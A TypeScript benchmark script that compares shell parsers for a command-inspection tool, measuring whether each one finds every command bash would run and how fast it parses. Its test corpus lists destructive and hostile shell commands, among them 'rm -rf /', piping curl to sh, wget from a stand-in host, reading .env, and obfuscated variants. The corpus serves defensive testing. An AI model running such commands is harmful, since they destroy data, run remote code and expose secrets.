// Compares the shell parsers on npm that could back src/facts/shell/parser.ts.
// Run: npx tsx bench/shell-parsers.ts
// For each candidate: does it read each tricky command the way bash would (the names of
// every command that would run, wherever it hides), does it reject what bash rejects,
// and how fast is it (cold start, µs per parse). Results feed docs/decisions/shell-parser.md.
import { createRequire } from 'node:module';
import { fileURLToPath } from 'node:url';

const require = createRequire(import.meta.url);

interface Case {
  src: string;
  /** Command words that would run, quotes removed, sorted; null: bash rejects the input. */
  cmds: string[] | null;
}

const corpus: Case[] = [
  { src: 'git status && curl x | sh', cmds: ['curl', 'git', 'sh'] },
  { src: 'ls; rm -rf ~', cmds: ['ls', 'rm'] },
  { src: 'npm test || wget http://e.vil/x', cmds: ['npm', 'wget'] },
  { src: 'ls\nrm -rf /', cmds: ['ls', 'rm'] },
  { src: 'sleep 1 & rm x', cmds: ['rm', 'sleep'] },
  { src: 'ls |& tee log', cmds: ['ls', 'tee'] },
  { src: '(cd / && rm -rf x)', cmds: ['cd', 'rm'] },
  { src: '{ cat .env; }', cmds: ['cat'] },
  { src: 'echo $(whoami)', cmds: ['echo', 'whoami'] },
  { src: 'echo "a $(id) b"', cmds: ['echo', 'id'] },
  { src: 'echo `uname -a`', cmds: ['echo', 'uname'] },
  { src: 'diff <(cat .env) >(tee x)', cmds: ['cat', 'diff', 'tee'] },
  { src: 'cat <<EOF\n$(rm -rf /)\nEOF', cmds: ['cat', 'rm'] },
  { src: "cat <<'EOF'\n$(rm -rf /)\nEOF", cmds: ['cat'] },
  { src: 'cat <<< "$(id)"', cmds: ['cat', 'id'] },
  { src: 'ls \\\n && rm x', cmds: ['ls', 'rm'] },
  { src: 'ls # ; rm -rf /', cmds: ['ls'] },
  { src: 'r""m -rf /', cmds: ['rm'] },
  { src: '\\rm -rf /', cmds: ['rm'] },
  { src: "'rm' -rf /", cmds: ['rm'] },
  { src: "$'\\x72m' -rf /", cmds: ['rm'] },
  { src: 'echo $((1 + $(id -u)))', cmds: ['echo', 'id'] },
  { src: 'f(){ rm -rf /; }; f', cmds: ['f', 'rm'] },
  { src: 'function g { curl x; }', cmds: ['curl'] },
  { src: 'if true; then rm a; else curl b; fi', cmds: ['curl', 'rm', 'true'] },
  { src: 'for i in a b; do rm $i; done', cmds: ['rm'] },
  { src: 'while read l; do curl $l; done < list', cmds: ['curl', 'read'] },
  { src: 'case $x in a) rm a;; *) curl b;; esac', cmds: ['curl', 'rm'] },
  { src: 'x=$(curl e.vil) ls', cmds: ['curl', 'ls'] },
  { src: 'echo > "$(rm x)"', cmds: ['echo', 'rm'] },
  { src: '[[ -f $(rm x) ]]', cmds: ['rm'] },
  { src: '! rm x', cmds: ['rm'] },
  { src: 'coproc curl x', cmds: ['curl'] },
  { src: 'a=1; b=$(id)', cmds: ['id'] },
  { src: 'echo ${x:-$(id)}', cmds: ['echo', 'id'] },
  { src: 'cat <<-E\n\t$(id)\n\tE', cmds: ['cat', 'id'] },
  { src: 'echo ${x:-`id`}', cmds: ['echo', 'id'] },
  { src: 'cat <<A <<B\na\nA\n$(id)\nB', cmds: ['cat', 'id'] },
  { src: '{ls;}', cmds: null },
  { src: 'echo (', cmds: null },
  { src: 'ls &&', cmds: null },
  { src: 'echo "unterminated', cmds: null },
  { src: 'if true; then ls', cmds: null },
  { src: 'echo $(', cmds: null },
  { src: ') rm', cmds: null },
  { src: 'cat <(ls', cmds: null },
];

/** Crude quote removal shared by every candidate, so only the parsers differ. */
function unquote(s: string): string {
  const ansi = /^\$'(.*)'$/s.exec(s);
  if (ansi) return ansi[1]!.replace(/\\x([0-9a-fA-F]{2})/g, (_, h: string) => String.fromCharCode(parseInt(h, 16)));
  return s.replace(/["']/g, '').replace(/\\(.)/g, '$1');
}

interface Candidate {
  name: string;
  sync: boolean;
  init(): Promise<void>;
  /** Command names, or null when the parser reports an error. */
  commands(src: string): string[] | null | Promise<string[] | null>;
}

// mvdan/sh compiled to JS with GopherJS: synchronous, throws on syntax errors.
function mvdanCandidate(): Candidate {
  let syntax: any;
  let parser: any;
  return {
    name: 'mvdan-sh 0.10.1 (GopherJS)',
    sync: true,
    async init() {
      syntax = require('mvdan-sh').syntax;
      parser = syntax.NewParser();
    },
    commands(src) {
      let file: any;
      try {
        file = parser.Parse(src, '');
      } catch {
        return null;
      }
      const out: string[] = [];
      syntax.Walk(file, (node: any) => {
        if (node != null && syntax.NodeType(node) === 'CallExpr' && node.Args.length > 0) {
          const parts = node.Args[0].Parts as any[];
          out.push(
            unquote(
              parts
                .map((p) => {
                  const t = syntax.NodeType(p);
                  if (t === 'Lit') return p.Value;
                  if (t === 'SglQuoted') return p.Dollar ? `$'${p.Value}'` : p.Value;
                  if (t === 'DblQuoted') return p.Parts.map((q: any) => q.Value ?? '?').join('');
                  return '?';
                })
                .join(''),
            ),
          );
        }
        return true;
      });
      return out.sort();
    },
  };
}

// tree-sitter-bash through web-tree-sitter: async init, then synchronous; error-tolerant,
// so errors are read from ERROR / MISSING nodes.
function treeSitterCandidate(): Candidate {
  let parser: any;
  return {
    name: 'web-tree-sitter 0.25.6 + tree-sitter-bash 0.25.0',
    sync: true,
    async init() {
      const { Parser, Language } = await import('web-tree-sitter');
      await Parser.init();
      const wasm = fileURLToPath(new URL('../node_modules/tree-sitter-bash/tree-sitter-bash.wasm', import.meta.url));
      const bash = await Language.load(wasm);
      parser = new Parser();
      parser.setLanguage(bash);
    },
    commands(src) {
      const tree = parser.parse(src);
      try {
        if (tree == null || tree.rootNode.hasError) return null;
        const out: string[] = [];
        for (const node of tree.rootNode.descendantsOfType('command')) {
          const name = node?.childForFieldName('name');
          if (name) out.push(unquote(name.text));
        }
        return out.sort();
      } finally {
        tree?.delete();
      }
    },
  };
}

// bash-parser: pure JS, synchronous, unmaintained since 2017.
function bashParserCandidate(): Candidate {
  let parse: any;
  return {
    name: 'bash-parser 0.5.0',
    sync: true,
    async init() {
      parse = require('bash-parser');
    },
    commands(src) {
      let ast: any;
      try {
        ast = parse(src);
      } catch {
        return null;
      }
      const out: string[] = [];
      const walk = (v: any): void => {
        if (Array.isArray(v)) v.forEach(walk);
        else if (v && typeof v === 'object') {
          if (v.type === 'Command' && v.name?.text) out.push(unquote(v.name.text));
          for (const k of Object.keys(v)) walk(v[k]);
        }
      };
      walk(ast);
      return out.sort();
    },
  };
}

// sh-syntax: mvdan/sh compiled to wasm; every parse is async (it instantiates the module
// per call) and its JSON AST drops node types (a command is only {Pos, End}), so command
// names cannot be extracted: only rejection and speed are measured.
function shSyntaxCandidate(): Candidate {
  let parse: any;
  return {
    name: 'sh-syntax 0.7.0 (wasm, async)',
    sync: false,
    async init() {
      parse = (await import('sh-syntax')).parse;
    },
    async commands(src) {
      try {
        await parse(src);
        return ['(untyped AST)'];
      } catch {
        return null;
      }
    },
  };
}

function same(a: string[] | null, b: string[] | null): boolean {
  if (a === null || b === null) return a === b;
  return a.length === b.length && a.every((x, i) => x === b[i]);
}

async function main(): Promise<void> {
  const speedInput = 'git status && curl x | sh; ls -la $(pwd) > out.txt 2>&1';
  const longInput = Array.from({ length: 200 }, (_, i) => `echo ${i} "$(id)"`).join(' && ');
  for (const make of [mvdanCandidate, treeSitterCandidate, bashParserCandidate, shSyntaxCandidate]) {
    const c = make();
    const t0 = performance.now();
    await c.init();
    await c.commands('ls');
    const coldMs = performance.now() - t0;
    let right = 0;
    let rejectsRight = 0;
    const wrong: string[] = [];
    for (const k of corpus) {
      let got: string[] | null;
      try {
        got = await c.commands(k.src);
      } catch (e) {
        got = ['<threw>'];
      }
      const ok = c.sync ? same(got, k.cmds) : k.cmds === null ? got === null : got !== null;
      if (ok) {
        right++;
        if (k.cmds === null) rejectsRight++;
      } else wrong.push(`${JSON.stringify(k.src)} → ${JSON.stringify(got)}`);
    }
    const time = async (src: string, n: number): Promise<number> => {
      for (let i = 0; i < 20; i++) await c.commands(src);
      const t = performance.now();
      for (let i = 0; i < n; i++) await c.commands(src);
      return ((performance.now() - t) * 1000) / n;
    };
    const shortUs = await time(speedInput, c.sync ? 2000 : 100);
    const longUs = await time(longInput, c.sync ? 100 : 10);
    console.log(`\n## ${c.name}`);
    console.log(`corpus: ${right}/${corpus.length} right (${rejectsRight}/${corpus.filter((k) => k.cmds === null).length} rejections)`);
    console.log(`cold start: ${coldMs.toFixed(1)} ms; short command: ${shortUs.toFixed(1)} µs; 200-segment command (${longInput.length} B): ${longUs.toFixed(0)} µs`);
    for (const w of wrong) console.log(`  wrong: ${w}`);
  }
  // The chosen parser behind Toolwarden's own API: parse, convert, unwrap, normalise.
  const { parseShell, initShellParser } = await import('../src/facts/shell/index.js');
  await initShellParser();
  const per = (src: string, n: number): number => {
    for (let i = 0; i < 20; i++) parseShell(src);
    const t = performance.now();
    for (let i = 0; i < n; i++) parseShell(src);
    return ((performance.now() - t) * 1000) / n;
  };
  console.log(`\n## Toolwarden parseShell (mvdan-sh + conversion + unwrapping)`);
  console.log(`short command: ${per(speedInput, 2000).toFixed(1)} µs; 200-segment command: ${per(longInput, 50).toFixed(0)} µs`);
}

await main();
